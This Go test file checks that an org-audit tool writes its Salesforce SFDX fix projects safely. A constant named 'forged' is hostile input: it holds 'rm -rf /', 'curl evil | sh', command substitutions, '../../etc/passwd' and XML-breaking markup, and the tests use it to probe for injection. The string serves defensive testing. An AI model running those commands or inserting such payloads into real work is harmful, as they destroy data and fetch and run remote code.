package sfdx_test

import (
	"encoding/xml"
	"errors"
	"flag"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/rogpeppe/go-internal/txtar"

	"orgaudit/audit"
	"orgaudit/internal/sfdx"
)

var update = flag.Bool("update", false, "rewrite the golden files")

func report(findings ...audit.Finding) *audit.Report {
	return &audit.Report{
		TakenAt:  time.Date(2026, 11, 20, 9, 0, 0, 0, time.UTC),
		Org:      audit.Org{ID: "00D5g000001AbcDEAS", Name: "Acme", APIVersion: "67.0"},
		Findings: findings, Steps: []audit.Step{{Fix: "enable-api"}, {Fix: "grant-api-permission-set"}},
	}
}

func withoutAPI(user string) audit.Finding {
	return audit.Finding{
		Check: "api-access", Subject: audit.Subject{Kind: audit.SubjectUser, Name: user}, Verdict: audit.Fail,
		Fix: "enable-api", OtherFixes: []string{"grant-api-permission-set"},
	}
}

// forged is a name that attacks the files that it lands in: lines, XML, shells, paths, directions.
const forged = "x\n4. rm -rf / </label><userPermissions> ]]> '; curl evil | sh #$(id)`id` ../../etc/passwd " +
	"\u202e\x00\xff"

func TestProject(t *testing.T) {
	only := withoutAPI("zoe@acme.example")
	only.Fix, only.OtherFixes = "grant-api-permission-set", nil
	hostile := report(withoutAPI(forged), withoutAPI("-rf@acme.example"), withoutAPI("o'neil@acme.example"))
	hostile.Org = audit.Org{ID: forged, Name: forged, APIVersion: "1.0\"/><x>"}
	for name, r := range map[string]*audit.Report{
		"users":   report(withoutAPI("jane@acme.example"), only, withoutAPI("jane@acme.example")),
		"hostile": hostile,
	} {
		t.Run(name, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), "fix")
			p, err := sfdx.New(r)
			if err != nil || p.Empty() {
				t.Fatal(p, err)
			}
			if err := p.Write(dir); err != nil {
				t.Fatal(err)
			}
			got := read(t, dir)
			golden := "testdata/" + name + ".txtar"
			if *update {
				if err := os.WriteFile(golden, txtar.Format(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), string(txtar.Format(got))); diff != "" {
				t.Errorf("-want +got:\n%s", diff)
			}
			entries, err := os.ReadDir(filepath.Dir(dir))
			if err != nil || len(entries) != 1 {
				t.Errorf("beside the project: %v, %v", entries, err)
			}
		})
	}
}

// read lists the files of a folder; every XML file has to be well-formed, and what the folder says is printable.
func read(t *testing.T, dir string) *txtar.Archive {
	t.Helper()
	a := &txtar.Archive{}
	err := filepath.WalkDir(dir, func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile(name)
		if err != nil {
			return err
		}
		if info, err := d.Info(); err != nil || info.Mode().Perm() != 0o600 {
			t.Errorf("%s: mode %v, %v", name, info.Mode(), err)
		}
		if strings.HasSuffix(name, ".xml") {
			var any struct {
				XMLName xml.Name
			}
			if err := xml.Unmarshal(data, &any); err != nil ||
				any.XMLName.Space != "http://soap.sforce.com/2006/04/metadata" {
				t.Errorf("%s: %v, %v", name, any, err)
			}
		}
		if i := slices.IndexFunc(data, func(b byte) bool { return b != '\n' && (b < ' ' || b > '~') }); i >= 0 {
			t.Errorf("%s holds the byte %#x", name, data[i])
		}
		relative, err := filepath.Rel(dir, name)
		a.Files = append(a.Files, txtar.File{Name: filepath.ToSlash(relative), Data: data})
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func TestNothingToWrite(t *testing.T) {
	policy := withoutAPI("Read Only")
	policy.Check, policy.Subject.Kind = "profile-api-policy", audit.SubjectProfile
	waived, other := withoutAPI("jane@acme.example"), withoutAPI("jane@acme.example")
	waived.Verdict = audit.Waived
	other.Fix, other.OtherFixes = "unfreeze-user", nil
	r := report(policy, waived, other)
	r.Steps = append(r.Steps, audit.Step{Fix: "preauthorize-users"})
	p, err := sfdx.New(r)
	if err != nil || !p.Empty() {
		t.Fatalf("%+v, %v", p, err)
	}
	if len(p.Hints) != 1 || !strings.HasPrefix(p.Hints[0], "preauthorize-users ") {
		t.Errorf("hints %q", p.Hints)
	}
}

// A folder that is in use is left as it is.
func TestInUse(t *testing.T) {
	p, err := sfdx.New(report(withoutAPI("jane@acme.example")))
	if err != nil {
		t.Fatal(err)
	}
	full := t.TempDir()
	kept := filepath.Join(full, "kept")
	if err := os.WriteFile(kept, []byte("mine"), 0o600); err != nil {
		t.Fatal(err)
	}
	lost := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink("nowhere", lost); err != nil {
		t.Fatal(err)
	}
	for _, dir := range []string{full, kept, lost} {
		if err := sfdx.Free(dir); !errors.Is(err, sfdx.ErrNotEmpty) {
			t.Errorf("%s is free: %v", dir, err)
		}
		if err := p.Write(dir); !errors.Is(err, sfdx.ErrNotEmpty) {
			t.Errorf("%s was written to: %v", dir, err)
		}
	}
	for _, dir := range []string{filepath.Join(full, "a", "b"), filepath.Join(kept, "b")} {
		if err := sfdx.Free(dir); err == nil {
			t.Errorf("%s is free", dir)
		}
	}
	if data, err := os.ReadFile(kept); err != nil || string(data) != "mine" {
		t.Errorf("%q, %v", data, err)
	}
	if entries, err := os.ReadDir(full); err != nil || len(entries) != 1 {
		t.Errorf("%v, %v", entries, err)
	}
}

// An empty folder takes the project, and a link to one stays a link.
func TestEmptyFolder(t *testing.T) {
	p, err := sfdx.New(report(withoutAPI("jane@acme.example")))
	if err != nil {
		t.Fatal(err)
	}
	root := t.TempDir()
	empty, link := filepath.Join(root, "empty"), filepath.Join(root, "link")
	if err := errors.Join(os.Mkdir(empty, 0o755), os.Symlink("empty", link)); err != nil {
		t.Fatal(err)
	}
	if err := p.Write(link); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(empty, "manifest", "package.xml")); err != nil {
		t.Error(err)
	}
	if info, err := os.Lstat(link); err != nil || info.Mode()&fs.ModeSymlink == 0 {
		t.Errorf("%v, %v", info, err)
	}
	if err := p.Write(empty); !errors.Is(err, sfdx.ErrNotEmpty) {
		t.Errorf("written twice: %v", err)
	}
}
